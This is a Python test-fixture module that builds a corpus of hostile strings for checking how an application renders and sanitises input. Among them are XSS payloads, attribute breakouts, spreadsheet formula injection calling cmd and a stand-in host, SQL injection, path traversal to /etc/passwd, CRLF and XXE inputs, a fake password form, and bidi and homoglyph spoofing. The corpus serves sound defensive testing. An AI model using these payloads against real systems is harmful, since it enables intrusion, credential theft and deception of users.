"""A corpus of hostile strings, grouped by whom each is aimed at: browsers, charts, spreadsheets, eyes.

A string that is taken for markup shows it: scripts set `window.__hostile`, everything that fetches or leads
away names the host `HOST`.
"""

from __future__ import annotations

from collections.abc import Mapping

HOST = "hostile.example"
_RUN = "window.__hostile=1"
_AWAY = f"http://{HOST}/"
# A block that is closed and an attribute that is broken out of, before the payload proper.
_BREAKOUTS = ("", '">', "'>", "</script>", "</style>", "</title></textarea>", "-->", "]]>")


def _elements() -> tuple[str, ...]:
    plain = (
        f"<script>{_RUN}</script>",
        f"<script src={_AWAY}a.js></script>",
        f"<img src=x onerror={_RUN}>",
        f"<svg onload={_RUN}>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><a xlink:href='javascript:{_RUN}'><text>看</text></a></svg>",
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
        f"<svg><use href='data:image/svg+xml,<svg id=a onload={_RUN} />#a'/>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
        f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>'></iframe>",
        f"<iframe src=javascript:{_RUN}></iframe>",
        f"<iframe src={_AWAY}></iframe>",
        f"<object data={_AWAY}a.swf></object>",
        f"<embed src={_AWAY}>",
        f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
        f"<base href={_AWAY}>",
        f"<link rel=stylesheet href={_AWAY}a.css>",
        f"<style>@import url({_AWAY}b.css);</style>",
        f"<style>*{{background:url({_AWAY}c.png)}}</style>",
        f"<div style='background:url({_AWAY}d.png)'>红</div>",
        "<div style='position:fixed;inset:0;z-index:9999;background:#000'>盖住</div>",
        f"<form action={_AWAY}><input name=password><button>登录</button></form>",
        f"<input autofocus onfocus={_RUN}>",
        f"<details open ontoggle={_RUN}>",
        f"<video><source onerror={_RUN}></video>",
        f"<audio src=x onerror={_RUN}>",
        f"<body onload={_RUN}>",
        f"<marquee onstart={_RUN}>滚</marquee>",
        f"<a href='javascript:{_RUN}'>点我</a>",
        f"<a href={_AWAY}>退款请点这里</a>",
        f"<template><script>{_RUN}</script></template>",
        f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
        f"<x onclick={_RUN} tabindex=0>x</x>",
        f"<IMG SRC=&#106;avascript:{_RUN}>",
        f"<img/src=`x`onerror={_RUN}>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        f"＜script＞{_RUN}＜/script＞",
        f"%3Cscript%3E{_RUN}%3C/script%3E",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
        f"<!--[if IE]><script>{_RUN}</script><![endif]-->",
        f"<q-hex data-items=x data-choose=x data-narrow='category1=1' onclick={_RUN}>",
    )
    broken_out = tuple(f"{before}<img src=x onerror={_RUN}>{at}" for at, before in enumerate(_BREAKOUTS))
    return (*plain, *broken_out)


def _attributes() -> tuple[str, ...]:
    events = ("onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart", "onload")
    return tuple(
        f"{quote} {event}={quote}{_RUN}{quote} x={quote}" for event in events for quote in ('"', "'")
    )


def _templates() -> tuple[str, ...]:
    return (
        "{{7*7}}",
        "{{constructor.constructor('window.__hostile=1')()}}",
        "${window.__hostile=1}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{%raw%}",
        "{name}",
        "{tip1}",
        "{0}",
        "{}",
        "{n}",
        "{x!r}",
        "{0.__class__}",
        "%s%n%d",
        "%(name)s",
        "$1$&$`",
        "\\1\\g<0>",
        "@{tip}",
        "[[${7*7}]]",
        "{unit_id}",
        "{",
        "}",
        "{{",
        "%{text}",
        "%{fullData.name}<extra></extra>",
    )


def _markdown() -> tuple[str, ...]:
    return (
        f"![图]({_AWAY}m.png)",
        f"[退款]({_AWAY})",
        f"[点](javascript:{_RUN})",
        f"<{_AWAY}>",
        f"{_AWAY}auto",
        f"www.{HOST}",
        "# 大标题",
        "## 二级标题",
        "- [ ] 待办",
        "| a | b |",
        "|---|---|",
        "---",
        "***粗***",
        "~~删~~",
        "`码`",
        "```\n围栏\n```",
        "> 引用",
        ":red[红字]",
        ":material/home:",
        ":smile:",
        "$\\frac{1}{0}$",
        f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
        f"[r]: {_AWAY}ref",
        f"![x][r]\n\n[r]: {_AWAY}r.png",
        f"**<img src=x onerror={_RUN}>**",
        "<details><summary>x</summary>**y**</details>",
        "\\*\\[\\]",
        f":red-background[![x]({_AWAY}n.png)]",
        f"[^1]: {_AWAY}",
        "1. 一\n2. 二",
    )


def _charts() -> tuple[str, ...]:
    return (
        f'<a href="{_AWAY}">看图</a>',
        f"<a href='javascript:{_RUN}'>看图</a>",
        "<br><br><br>换行",
        "<b>粗</b><i>斜</i>",
        f'<span style="background:url({_AWAY}p.png)">标</span>',
        "<sup>上</sup><sub>下</sub>",
        "</extra>出",
        f'<a href="{_AWAY}" target="_self">本页</a>',
        "<extra>多</extra>",
        "&#60;b&#62;",
        "&lt;b&gt;",
        "&nbsp;&nbsp;",
        "$x^2$",
        "$\\alpha$",
    )


def _formulas() -> tuple[str, ...]:
    signs = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u3000=",
        "\u200b=",
        "\ufeff=",
    )
    calls = ("cmd|' /C calc'!A0", f'HYPERLINK("{_AWAY}","看")')
    return (
        *(f"{sign}{call}" for sign in signs for call in calls),
        '=IMPORTXML("http://hostile.example/","//a")',
        "=1+1",
        "'=1+1",
        '="=1+1"',
        "{=1+1}",
        'DDE("cmd")',
        "\\=1+1",
        "==1",
        "=@SUM(1)",
        "_x0041_",
        "_x000D_",
    )


def _quotes() -> tuple[str, ...]:
    return (
        '"',
        '""',
        '"""',
        "'",
        "''",
        '","',
        "a,b,c",
        "a;b|c\td",
        '"a\nb"',
        "\\",
        '\\"',
        "\\'",
        "\\n",
        "\r",
        "\r\n行",
        "NULL",
        "null",
        "NaN",
        "nan",
        "None",
        "undefined",
        "true",
        "-inf",
        "#REF!",
        "N/A",
        "\\N",
    )


def _directions() -> tuple[str, ...]:
    signs = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
    return (
        *(f"路灯{sign}gnp.exe坏了" for sign in signs),
        "\u202e\u202e\u202e反过来",
        "שלום עולם",
        "مرحبا بالعالم",
        "אבג 123 דהו",
        "(العربية)",
        "路灯שלום",
        "\u202eabc\u2069def",
        "مكتب 12345",
        "ﷺ﷽",
        "\u2067" * 100 + "埋",
    )


def _unseen() -> tuple[str, ...]:
    signs = (
        "\x00\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x80\x85\x9b\xa0\xad\u115f\u180e\u200b\u200c\u200d\u2028\u2029\u2060"
        "\u3164\ufe0f\ufeff\ufff9\ufffc\ufffd\ufffe\uffff\U000e0041\U0001fffe\U0010ffff\ue000"
    )
    return (
        *(f"看{sign}不见{ord(sign):x}" for sign in signs),
        "\x1b[31m红\x1b[0m",
        "\x1b]0;标题\x07",
        "\x08\x08\x08\x08退格",
    )


def _looks() -> tuple[str, ...]:
    return (
        "👨\u200d👩\u200d👧\u200d👦",
        "🇨🇳🇨",
        "👍🏽",
        "😀" * 200,
        "Z̷̢̛a̸l̶g̷o̴",
        "噪" + "\u0301" * 300,
        "\u0301独立",
        "é与e\u0301",
        "ﬁ与fi",
        "Å与Å",
        "İıſK",
        "①②③ⅣⅤ",
        "ＡＢＣ１２３",
        "㍿㏂",
        "аdmin",
        "раураl.example",
        "𝒽𝑒𝓁𝓁𝑜",
        "ⓗⓣⓣⓟ",
        "𠮷野家",
        "䨻龘",
        "ﾊﾝｶｸ",
        "가각",
        "\U0001d15f\U0001d165",
    )


def _codes() -> tuple[str, ...]:
    return (
        "'; DROP TABLE cases; --",
        "1 OR 1=1",
        "' UNION SELECT person_key FROM cases --",
        "100%",
        "_%_",
        "\\%",
        "/* */",
        ":param",
        "?1",
        "$1",
        "../../etc/passwd",
        "C:\\Windows\\win.ini",
        "/dev/null",
        "CON",
        "file:///etc/passwd",
        '{"case_id": 1}',
        "[1, 2, 3]",
        '{"__proto__": {"x": 1}}',
        "__proto__",
        "constructor",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        f"//{HOST}/a",
        f"\\\\{HOST}\\share",
        f"mailto:a@{HOST}",
        "1e309",
        "0x1F",
        "-0",
        "1_000",
        "9" * 6,
        "2026-13-45",
        "case=1&lang=en",
        "?role=leader",
        "key=a/b#c",
        "&district=330110",
        "%00",
        "%0d%0aSet-Cookie: a=b",
        "<![CDATA[x]]>",
        "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
        "&a;",
    )


GROUPS: Mapping[str, tuple[str, ...]] = {
    "elements": _elements(),
    "attributes": _attributes(),
    "templates": _templates(),
    "markdown": _markdown(),
    "charts": _charts(),
    "formulas": _formulas(),
    "quotes": _quotes(),
    "directions": _directions(),
    "unseen": _unseen(),
    "looks": _looks(),
    "codes": _codes(),
}
STRINGS = tuple(dict.fromkeys(one for group in GROUPS.values() for one in group))
# Each in a field of its own row: ten megabytes that no rule shortens, a million signs without a blank.
LONG = ("长文本 <b>" * 770_000, "无" * 1_000_000, f"<img src=x onerror={_RUN}>" * 20_000)
# Bytes that are no UTF-8: a lone surrogate, an overlong slash, a sequence cut off, a byte that never occurs.
UNDECODABLE = (b"\xed\xa0\x80", b"\xc0\xaf", b"\xe8\xb7", b"\xff")
